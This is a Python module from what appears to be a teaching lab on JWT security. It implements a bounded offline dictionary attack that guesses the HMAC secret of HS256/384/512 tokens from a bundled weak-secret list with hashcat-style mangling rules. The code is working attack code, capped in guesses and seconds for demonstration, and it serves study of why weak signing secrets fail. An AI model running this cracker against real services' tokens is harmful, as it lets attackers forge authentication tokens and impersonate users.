"""The weak-secret attack: guess an HS256 token's secret offline, from a small bundled word list.

An HMAC-signed JWT is its own oracle: whoever holds one token can try secrets
on their own machine, as fast as their hardware allows, and no server ever
sees a wrong guess (RFC 8725 §2.2). The lab's list is small on purpose (a
little under 3,000 guesses, see ``tokenlab/data/README.md``) and every run is
bounded in guesses and in seconds, so the attack runs for real in a notebook.

>>> from tokenlab.attacks import hmac_forge
>>> result = crack_hmac_secret(hmac_forge({"sub": "bob"}, "letmein"))
>>> result.secret, result.guesses
('letmein', 257)
"""

from __future__ import annotations

import functools
import hmac
import math
import time
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from importlib import resources

from tokenlab.attacks.naive import split_token
from tokenlab.errors import UsageError

__all__ = ["MAX_GUESSES", "RULES", "CrackResult", "base_words", "crack_hmac_secret", "word_list"]

MAX_GUESSES = 5_000
"""No run of the lab's dictionary attack tries more than this many secrets."""

RULES: tuple[tuple[str, Callable[[str], str]], ...] = (
    ("as written", lambda word: word),
    ("Capitalised", lambda word: word[:1].upper() + word[1:]),
    ("+1", lambda word: word + "1"),
    ("+123", lambda word: word + "123"),
    ("+!", lambda word: word + "!"),
    ("+2024", lambda word: word + "2024"),
    ("+2025", lambda word: word + "2025"),
    ("+2026", lambda word: word + "2026"),
)
"""Mangling rules, each applied to the whole list before the next (as hashcat and John the Ripper do)."""

_DIGESTS = {"HS256": "sha256", "HS384": "sha384", "HS512": "sha512"}


@functools.cache
def base_words() -> tuple[str, ...]:
    """The bundled words, in order (``tokenlab/data/weak-secrets.txt``)."""
    text = resources.files("tokenlab").joinpath("data", "weak-secrets.txt").read_text(encoding="utf-8")
    return tuple(line for line in text.splitlines() if line)


@functools.cache
def word_list() -> tuple[str, ...]:
    """Every guess, in the order tried: the base words under each of :data:`RULES`, without repeats."""
    seen: dict[str, None] = {}
    for _, rule in RULES:
        for word in base_words():
            seen.setdefault(rule(word), None)
    return tuple(seen)


@dataclass(frozen=True)
class CrackResult:
    """What a dictionary attack found, after how many guesses and how long."""

    secret: str | None
    guesses: int
    seconds: float
    candidates: int
    stopped_early: bool = False

    @property
    def found(self) -> bool:
        return self.secret is not None

    @property
    def rate(self) -> float:
        """Guesses per second on this machine in this run: it varies from run to run and machine to machine."""
        return self.guesses / self.seconds if self.seconds > 0 else math.inf

    @property
    def bits(self) -> float:
        """The entropy of "one of this list", in bits: log2 of the number of candidates."""
        return math.log2(self.candidates) if self.candidates else 0.0


def crack_hmac_secret(
    token: str,
    words: Iterable[str] | None = None,
    *,
    max_guesses: int = MAX_GUESSES,
    time_limit: float = 5.0,
) -> CrackResult:
    """Try each word as the HMAC secret of ``token`` (HS256/384/512) until its signature matches.

    Bounded twice: at most ``max_guesses`` words (never more than
    :data:`MAX_GUESSES`) and at most ``time_limit`` seconds, measured with
    :func:`time.perf_counter`.
    """
    header, _, signature, signing_input = split_token(token)
    digest = _DIGESTS.get(header.get("alg"))
    if digest is None:
        raise UsageError(
            f"a dictionary attack needs an HMAC-signed token (HS256/384/512), not alg {header.get('alg')!r}"
        )
    if not 0 < time_limit <= 60:
        raise UsageError("time_limit is a number of seconds between 0 and 60: the lab's attack is bounded")
    candidates = list(word_list() if words is None else words)[: min(max_guesses, MAX_GUESSES)]
    start = time.perf_counter()
    deadline = start + time_limit
    for guesses, word in enumerate(candidates, start=1):
        if hmac.digest(word.encode("utf-8"), signing_input, digest) == signature:
            return CrackResult(word, guesses, time.perf_counter() - start, len(candidates))
        if guesses % 256 == 0 and time.perf_counter() > deadline:
            return CrackResult(None, guesses, time.perf_counter() - start, len(candidates), stopped_early=True)
    return CrackResult(None, len(candidates), time.perf_counter() - start, len(candidates))
